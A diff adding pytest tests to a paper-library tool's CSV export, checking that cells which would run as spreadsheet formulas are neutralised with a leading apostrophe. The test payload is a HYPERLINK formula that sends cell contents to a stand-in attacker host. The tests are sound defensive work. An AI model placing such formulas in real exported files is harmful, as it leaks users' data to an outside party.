@@ -299,6 +299,33 @@ def test_csv_has_every_field_and_reads_back(seeded: Store) -> None:
     assert rows[1]["rating_mean"] == "" and rows[-1]["authors"] == "Jane van Doe;Ann Smith and Co"
 
 
+#: Starts of a cell that a spreadsheet runs as a formula (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_csv_cells_that_would_be_formulas_get_a_leading_apostrophe(start: str) -> None:
+    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    paper = Paper(
+        id=f"{start}id", title=payload, abstract=payload, venue=payload, authors=(payload, "Ann"),
+        keywords=(payload,), primary_area=payload, decision_raw=payload, tldr=payload, doi=payload,
+        pdf_url=payload, code_url=payload, bibtex=payload, sources=(payload,),
+    )  # fmt: skip
+    user = UserData(paper.id, note=payload, tags=(f"{start}tag",), status="read")
+    text = export_papers([paper], {paper.id: user}, "csv")
+    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
+    formulas = [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
+    assert formulas == []
+    assert row["title"] == "'" + payload and row["note"] == "'" + payload and row["id"] == f"'{start}id"
+    assert row["tags"] == f"'{start}tag" and row["authors"] == f"'{payload};Ann"
+
+
+def test_csv_numbers_and_plain_text_are_left_as_they_are() -> None:
+    paper = Paper(id="x", title="A title - with a dash", abstract="a", ratings=Ratings(-1.5, 0.5, -2.0, -1.0, 2))
+    (row,) = list(csv.DictReader(io.StringIO(export_papers([paper], {}, "csv"), newline="")))
+    assert (row["title"], row["rating_mean"], row["rating_min"]) == ("A title - with a dash", "-1.5", "-2.0")
+
+
 def test_json_is_the_paper_records_of_the_cli(seeded: Store) -> None:
     mark_some(seeded)
     papers = seeded.papers
